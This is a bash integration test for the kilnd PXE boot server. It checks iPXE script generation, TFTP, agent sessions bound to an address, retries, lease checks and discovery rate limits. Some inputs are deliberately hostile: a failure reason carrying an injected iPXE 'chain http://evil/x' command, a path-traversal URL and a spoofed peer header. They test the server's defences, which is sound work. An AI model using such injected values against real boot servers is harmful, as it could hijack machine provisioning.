#!/usr/bin/env bash
# The boot path's server side, over real sockets: /boot/<mac>.ipxe (curl) and boot/<mac>.ipxe
# (tftp-hpa) through one resolver; the lifecycle a machine walks as it PXE-boots again and
# again (unknown -> discover -> ready/wait -> deploy with the deployment's boot ticket ->
# localboot); the agent session bound at first use to its address (a second address is refused,
# script fetches neither re-mint nor count as boots), success reports that must carry proof, a
# capped failure reason; resume of a deployment, automatic retries of a failed one (bounded,
# then the failed script), agent boots counted from sessions, discovery refusals, bad requests,
# and discovery switched off.
source "$(dirname "$0")/lib.sh"
for c in curl jq tftp sqlite3; do
  command -v "$c" >/dev/null || { fail "missing client $c (deploy/install-deps.sh)"; finish; }
done

cat >"$WORK/kilnd.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "retries": 1, "poll_s": 3, "max_agent_boots": 3,
            "cmdline": "console=ttyS0,115200 quiet", "localboot_efi": "exit" } }
JSON
start_kilnd --config "$WORK/kilnd.json" --tftp-listen 127.0.0.1:0
TOKEN=$(make_token boot-test)
MAC=52:54:00:aa:00:01
HMAC=${MAC//:/-}
script() { curl -s -o "$WORK/script" -w '%{http_code}' "$URL/boot/$1.ipxe"; }
sget() { sed -n "s/.*$1=\([^ ]*\).*/\1/p" "$WORK/script" | head -n1; }

log "an unknown MAC is registered as discovered and gets the discovery agent"
expect_eq "$(script "$HMAC")" 200 "script for an unknown MAC"
grep -q '^#!ipxe' "$WORK/script" && ok || fail "not an iPXE script: $(cat "$WORK/script")"
grep -q 'kiln.mode=discover' "$WORK/script" && ok || fail "discovery script: $(cat "$WORK/script")"
grep -q "^kernel http://10.99.0.1:8080/files/kiln/vmlinuz initrd=initrd.img console=ttyS0,115200 quiet " \
  "$WORK/script" && ok || fail "kernel line: $(grep ^kernel "$WORK/script")"
grep -q "chain --replace --autofree http://10.99.0.1:8080/boot/$HMAC.ipxe" "$WORK/script" &&
  ok || fail "retry chain: $(cat "$WORK/script")"
api GET "/api/v1/machines?state=discovered"
expect_eq "$(jqb '.items | length'):$(jqb '.items[0].macs[0]')" "1:$MAC" "discovered machine listed"
ID=$(jqb '.items[0].id')
# every MAC spelling iPXE may send names the same machine; nothing new is registered
for form in "$MAC" 525400AA0001 "52-54-00-AA-00-01"; do
  expect_eq "$(script "$form")" 200 "script for $form"
done
api GET "/api/v1/machines"
expect_eq "$(jqb '.items | length')" 1 "one machine after four boots"

log "TFTP serves the same script through the shared resolver"
(cd "$WORK" && timeout 10 tftp -m octet 127.0.0.1 "$TFTP_PORT" -c get "boot/$HMAC.ipxe" tftp.ipxe)
cmp -s "$WORK/tftp.ipxe" "$WORK/script" && ok || fail "TFTP script differs: $(cat "$WORK/tftp.ipxe")"

log "an inventory claiming another machine's MAC is refused whole (open discovery)"
api POST /api/v1/machines '{"macs":["52:54:00:cc:00:01"],"name":"other"}'
expect_status 201 "another machine"
OTHER=$(jqb .id)
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":{"nics":[{"mac":"52:54:00:aa:01:01"},{"mac":"52:54:00:cc:00:01"}]}}'
expect_status 409 "an inventory claiming another machine's MAC"
api GET "/api/v1/machines/$ID"
expect_eq "$(jqb .state):$(jqb '.macs | join(",")')" "discovered:52:54:00:aa:00:01" "the claimant got nothing"
api GET "/api/v1/events?since=0&limit=1000"
expect_eq "$(jq -r '[.events[] | select(.type == "machine.inventory_refused")][0].data.claimed_mac' <<<"$BODY")" \
  52:54:00:cc:00:01 "the refusal is an event"
api DELETE "/api/v1/machines/$OTHER"
expect_status 204 "the other machine goes"

log "the inventory makes it ready; a ready machine waits (polls)"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52-54-00-aa-00-01","inventory":{"cpu":{"threads":2},"disks":[{"name":"vda"}],"nics":[{"mac":"52:54:00:aa:00:01"},{"mac":"52:54:00:AA:01:01"},{"mac":"junk"}]}}'
expect_status 200 "inventory from the discovery agent (no token)"
expect_eq "$(jqb .state):$(jqb .inventory.cpu.threads)" "ready:2" "machine after inventory"
expect_eq "$(jqb '.macs | join(",")')" "52:54:00:aa:00:01,52:54:00:aa:01:01" "its second NIC joins it"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:99","inventory":{}}'
expect_status 404 "inventory for a MAC that never booted"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"nonsense","inventory":{}}'
expect_status 422 "inventory with a bad MAC"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":[1]}'
expect_status 400 "inventory that is not an object"
script "$HMAC" >/dev/null
grep -q '^sleep 3$' "$WORK/script" && grep -q 'is ready: waiting' "$WORK/script" && ok ||
  fail "wait script: $(cat "$WORK/script")"

log "an assignment: the next boot gets the agent with the deployment's boot ticket"
echo v1 >"$WORK/v1.img"
SHA1=$(printf %064d 1)
api POST /api/v1/images/demo/versions/1 "{\"format\":\"raw\",\"source_url\":\"http://10.99.0.1/demo.raw\",\"sha256\":\"$SHA1\",\"size_bytes\":4096}"
expect_status 201 "register demo:1"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "assign demo:1"
DEP=$(jqb .id)
script "$HMAC" >/dev/null
grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "deploy script: $(cat "$WORK/script")"
T1=$(sget kiln.ticket)
expect_eq "$(sget kiln.disk):$(sget kiln.after)" "largest:reboot" "disk hint and after"
[[ $T1 == kilnticket_* ]] && ok || fail "no boot ticket in the deploy script"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":{"cpu":{"threads":99}}}'
expect_status 409 "inventory once deploying"

# session TICKET [SOURCE] — opens an agent session from SOURCE (a loopback address); sets
# STATUS/BODY and SESSION (the token).
session() {
  STATUS=$(curl -s -o "$WORK/body" -w '%{http_code}' --interface "${2:-127.0.0.1}" -X POST \
    -H "Authorization: Bearer $1" "$URL/api/v1/agent/session")
  BODY=$(cat "$WORK/body")
  SESSION=$(jqb '.token // empty')
}
# as SOURCE TOKEN METHOD PATH [JSON] — api() from another loopback source address.
as() {
  local src=$1 tok=$2 method=$3 path=$4 body=${5:-}
  local args=(-s -o "$WORK/body" -w '%{http_code}' --interface "$src" -X "$method" -H "Authorization: Bearer $tok")
  [[ -n "$body" ]] && args+=(-H 'Content-Type: application/json' --data-binary "$body")
  STATUS=$(curl "${args[@]}" "$URL$path")
  BODY=$(cat "$WORK/body")
}
events_of() { api GET "/api/v1/events?since=0&limit=1000"; jq -c "[.events[] | select(.type == \"$1\")]" <<<"$BODY"; }

log "script fetches are not agent boots and never change the credential (boot.max_agent_boots=3)"
for _ in 1 2 3 4 5 6 7 8; do script "$HMAC" >/dev/null; done
expect_eq "$(sget kiln.ticket)" "$T1" "the same ticket on every fetch"
(cd "$WORK" && timeout 10 tftp -m octet 127.0.0.1 "$TFTP_PORT" -c get "boot/$HMAC.ipxe" tftp.ipxe)
grep -q "kiln.ticket=$T1 " "$WORK/tftp.ipxe" && ok || fail "TFTP fetch: another ticket"
api GET "/api/v1/deployments/$DEP"
expect_eq "$(jqb .status)" pending "nine script fetches did not fail the deployment"
TOKEN=$T1 api GET /api/v1/agent/deployment
expect_status 401 "a ticket is not a session token"

log "the first session binds the deployment to the agent's address"
session "$T1" 127.0.0.1
expect_eq "$STATUS:$(jqb .boot):$(jqb .deployment_id)" "201:1:$DEP" "the agent's session"
S1=$SESSION
TOKEN=$S1 api GET /api/v1/agent/deployment
expect_eq "$STATUS:$(jqb .id)" "200:$DEP" "the session token authenticates the agent"
session "$T1" 127.0.0.2
expect_status 403 "the (public) ticket from another address"
[[ -z $SESSION ]] && ok || fail "a session token was handed to another address"
as 127.0.0.2 "$S1" GET /api/v1/agent/deployment
expect_status 403 "the session token from another address"
STATUS=$(curl -s -o /dev/null -w '%{http_code}' --interface 127.0.0.2 -H "Kiln-Peer: 127.0.0.1" \
  -H "Authorization: Bearer $S1" "$URL/api/v1/agent/deployment")
expect_eq "$STATUS" 403 "a client-sent Kiln-Peer header is not believed"
TOKEN=$S1 api POST /api/v1/agent/progress '{"stage":"writing","bytes_done":1024,"bytes_total":4096}'
expect_status 200 "the running agent is untouched"
expect_eq "$(events_of agent.session_refused | jq -r '.[0].data.address')" 127.0.0.2 \
  "the refused session is an event"

log "a success report must prove what was written"
TOKEN=$S1 api POST /api/v1/agent/result '{"status":"succeeded"}'
expect_status 422 "success without proof"
TOKEN=$S1 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$(printf %064d 2)" 4096)}"
expect_status 422 "success proving another image"
TOKEN=$S1 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$SHA1" 4095)}"
expect_status 422 "success proving another size"
api GET "/api/v1/deployments/$DEP"
expect_eq "$(jqb .status)" running "refused reports change nothing"
expect_eq "$(events_of deployment.result_refused | jq length)" 3 "each refused report is an event"

log "the machine boots again: same ticket, same address, a new session (boot 2); the old token dies"
script "$HMAC" >/dev/null
expect_eq "$(sget kiln.ticket)" "$T1" "the ticket survives the reboot"
session "$T1" 127.0.0.1
expect_eq "$STATUS:$(jqb .boot)" "201:2" "the second agent boot"
S2=$SESSION
TOKEN=$S1 api GET /api/v1/agent/deployment
expect_status 401 "the replaced session token"
long=$(head -c 6000 /dev/zero | tr '\0' x)
TOKEN=$S2 api POST /api/v1/agent/result "{\"status\":\"failed\",\"reason\":\"chunk 3: sha256 mismatch \${evil} ; chain http://evil/x $long\"}"
expect_status 200 "failure report"
expect_eq "$(jqb '.status_reason | length')" 1024 "a failure reason is cut to 1 KiB"
[[ $(jqb .status_reason) == *... ]] && ok || fail "the cut is marked"

log "a failed deployment is retried once (boot.retries=1), then the machine waits for an operator"
script "$HMAC" >/dev/null
grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "retry script: $(cat "$WORK/script")"
T3=$(sget kiln.ticket)
[[ -n $T3 && $T3 != "$T1" ]] && ok || fail "the retry deployment has its own ticket"
api GET "/api/v1/machines/$ID/deployments"
expect_eq "$(jqb '.items | length // length'):$(jqb '(.items // .)[0].requested_by')" "2:kilnd:retry" \
  "the retry deployment"
session "$T3"
TOKEN=$SESSION api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
expect_status 200 "second failure"
script "$HMAC" >/dev/null
grep -q 'failed: deployment .* failed: chunk 3: sha256 mismatch __evil_ _ chain http://evil/x' "$WORK/script" && ok ||
  fail "failed script (reason neutralized): $(cat "$WORK/script")"
grep '^echo' "$WORK/script" | grep -q '[;$|&#]' && fail "iPXE syntax reached an echo line: $(cat "$WORK/script")" || ok
grep -q 'kiln.ticket' "$WORK/script" && fail "failed script holds a ticket" || ok
api GET "/api/v1/machines/$ID/deployments"
expect_eq "$(jqb '(.items // .) | length')" 2 "no third attempt"

log "an agent that boots again and again without a result: the deployment is failed, then retried"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "reassign"
LOOP_DEP=$(jqb .id)
script "$HMAC" >/dev/null
LT=$(sget kiln.ticket)
for n in 1 2 3; do  # boot.max_agent_boots = 3 in this test
  session "$LT"
  expect_eq "$STATUS:$(jqb .boot)" "201:$n" "agent boot $n"
done
session "$LT"  # the 4th agent boot: the deployment fails
expect_status 409 "the 4th agent boot"
api GET "/api/v1/deployments/$LOOP_DEP"
expect_eq "$(jqb .status):$(jqb .status_reason)" \
  "failed:the agent booted 3 times without finishing this deployment" "abandoned deployment"
script "$HMAC" >/dev/null
grep -q 'kiln.mode=deploy' "$WORK/script" && ! grep -q "deployment $LOOP_DEP:" "$WORK/script" && ok ||
  fail "the next boot should start the retry deployment: $(cat "$WORK/script")"
session "$(sget kiln.ticket)"
TOKEN=$SESSION api POST /api/v1/agent/result '{"status":"failed","reason":"disk gone"}'
expect_status 200 "the retry fails too"

log "an operator reassigns; success (with proof) makes the next boot local"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "reassign after failures"
script "$HMAC" >/dev/null
session "$(sget kiln.ticket)"
T4=$SESSION
TOKEN=$T4 api POST /api/v1/agent/result "{\"status\":\"succeeded\",\"proof\":$(external_proof "$SHA1" 4096)}"
expect_status 200 "success report"
TOKEN=$T4 api GET /api/v1/agent/deployment
expect_status 401 "the session died with its deployment"
script "$HMAC" >/dev/null
grep -q 'sanboot --no-describe --drive 0x80' "$WORK/script" && grep -q 'deployed with demo:1' "$WORK/script" &&
  ok || fail "localboot script: $(cat "$WORK/script")"
grep -q '^:efi$' "$WORK/script" && grep -A1 '^:efi$' "$WORK/script" | grep -q '^exit 1' && ok ||
  fail "UEFI local boot: $(cat "$WORK/script")"

log "a MAC leased by kilnd's DHCP gets its script only at its leased address"
DB=$WORK/var/kiln.db
exp=$(($(date +%s%3N) + 600000))
sqlite3 "$DB" "INSERT INTO dhcp_leases VALUES ('10.99.0.150', '$MAC', '$MAC', '', 'bound', $exp, $exp)"
expect_eq "$(script "$HMAC")" 404 "script asked from another address than the lease"
grep -q 'event=boot.script_refused mac=52:54:00:aa:00:01 peer=127.0.0.1' "$WORK/kilnd.0.log" && ok ||
  fail "no boot.script_refused log line"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1' WHERE mac = '$MAC'"
expect_eq "$(script "$HMAC")" 200 "script asked from the leased address"
log "with a lease, the agent session too comes only from the leased address"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1","force":true}'
expect_status 201 "assign again"
script "$HMAC" >/dev/null
LT=$(sget kiln.ticket)
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150' WHERE mac = '$MAC'"
session "$LT" 127.0.0.1
expect_status 403 "a session from an address the machine does not lease"
[[ $(jqb .error.message) == *"not an address kilnd leased"* ]] && ok || fail "explained: $BODY"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1' WHERE mac = '$MAC'"
session "$LT" 127.0.0.1
expect_eq "$STATUS:$(jqb .boot)" "201:1" "the session from the leased address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150', expires_at = 1 WHERE mac = '$MAC'"
expect_eq "$(script "$HMAC")" 200 "an expired lease binds nothing"

log "bad requests"
expect_eq "$(script not-a-mac)" 404 "not a MAC"
expect_eq "$(curl -s -o /dev/null -w '%{http_code}' "$URL/boot/$HMAC.txt")" 404 "not .ipxe"
expect_eq "$(curl -s -o /dev/null -w '%{http_code}' "$URL/boot/../files/x")" 404 "traversal"
api GET /api/v1/machines
expect_eq "$(jqb '.items | length')" 1 "bad requests registered nothing"
stop_kilnd

log "a dual-stack listener sees the leased IPv4 client as ::ffff:127.0.0.1: still its address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1', expires_at = $exp WHERE mac = '$MAC'"
KILND_LISTEN='[::]:0' start_kilnd --config "$WORK/kilnd.json"
code=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:${URL##*:}/boot/$HMAC.ipxe")
expect_eq "$code" 200 "script over a dual-stack listener from the leased address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150' WHERE mac = '$MAC'"
code=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:${URL##*:}/boot/$HMAC.ipxe")
expect_eq "$code" 404 "script over a dual-stack listener from another address"
stop_kilnd
sqlite3 "$DB" "UPDATE dhcp_leases SET expires_at = 1 WHERE mac = '$MAC'"

log "discovery off: an unknown MAC gets nothing and is not registered"
cat >"$WORK/off.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "discover_unknown": false } }
JSON
start_kilnd --config "$WORK/off.json"
expect_eq "$(script 52-54-00-aa-00-02)" 404 "unknown MAC with discovery off"
api GET /api/v1/machines
expect_eq "$(jqb '.items | length')" 1 "nothing registered"
expect_eq "$(script "$HMAC")" 200 "a known machine still boots"
stop_kilnd

log "boot.require_lease: no lease from kilnd, no script (fail closed)"
cat >"$WORK/require.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "require_lease": true } }
JSON
start_kilnd --config "$WORK/require.json"
expect_eq "$(script 52-54-00-dd-00-01)" 404 "an unknown MAC without a lease"
expect_eq "$(script "$HMAC")" 404 "a known MAC without a lease"
cat "$WORK"/kilnd.*.log | grep -q 'event=boot.script_refused mac=52:54:00:dd:00:01 .*no lease from kilnd' && ok ||
  fail "no log line for the lease-less refusal"
stop_kilnd

log "discovery by approval, rate limited; an inventory cannot claim another machine's NIC"
cat >"$WORK/approve.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "discovery": "approve", "discovery_per_minute": 3,
            "discovery_per_minute_per_address": 2 } }
JSON
start_kilnd --config "$WORK/approve.json"
expect_eq "$(script 52-54-00-bb-00-01)" 200 "a new MAC under approval"
grep -q 'is awaiting-approval: waiting' "$WORK/script" && ! grep -q 'kiln.mode' "$WORK/script" && ok ||
  fail "an unapproved machine must only wait: $(cat "$WORK/script")"
api GET /api/v1/machines/52:54:00:bb:00:01
NEW=$(jqb .id)
expect_eq "$(jqb .approved):$(jqb .state)" "false:discovered" "registered, not approved"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:bb:00:01","inventory":{}}'
expect_status 409 "no inventory before approval"
api PUT "/api/v1/machines/$NEW/assignment" '{"image":"demo","version":"1"}'
expect_status 409 "no assignment before approval"
for i in 2 3 4; do script "52-54-00-bb-00-0$i" >/dev/null; done  # from 127.0.0.1: 2 a minute
for i in 5 6 7; do curl -s -o /dev/null --interface 127.0.0.2 "$URL/boot/52-54-00-bb-00-0$i.ipxe"; done
api GET "/api/v1/machines?state=discovered"
expect_eq "$(jqb '[.items[].macs[0]] | join(",")')" "52:54:00:bb:00:01,52:54:00:bb:00:02,52:54:00:bb:00:05" \
  "two a minute from one address, three a minute in all"
cat "$WORK"/kilnd.*.log | grep -q "event=boot.discovery_rate_limited .*limit=discovery-rate-address" && ok ||
  fail "no per-address discovery_rate_limited log line"
cat "$WORK"/kilnd.*.log | grep -q "event=boot.discovery_rate_limited .*limit=discovery-rate$" && ok ||
  fail "no global discovery_rate_limited log line"
api POST "/api/v1/machines/$NEW/approve"
expect_eq "$STATUS:$(jqb .approved)" "200:true" "approved by the operator"
script 52-54-00-bb-00-01 >/dev/null
grep -q 'kiln.mode=discover' "$WORK/script" && ok || fail "approved: discovery: $(cat "$WORK/script")"
# Under approval an unauthenticated report attaches no MAC (they are only recorded).
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:bb:00:01","inventory":{"nics":[{"mac":"52:54:00:bb:01:01"},{"mac":"52:54:00:aa:00:01"}]}}'
expect_status 200 "the approved machine's inventory"
api GET "/api/v1/machines/$ID"
expect_eq "$(jqb '.macs | join(",")')" "52:54:00:aa:00:01,52:54:00:aa:01:01" "the owner keeps its MACs"
api GET "/api/v1/machines/$NEW"
expect_eq "$(jqb .state):$(jqb '.macs | join(",")')" "ready:52:54:00:bb:00:01" "no reported MAC attached"
stop_kilnd
finish
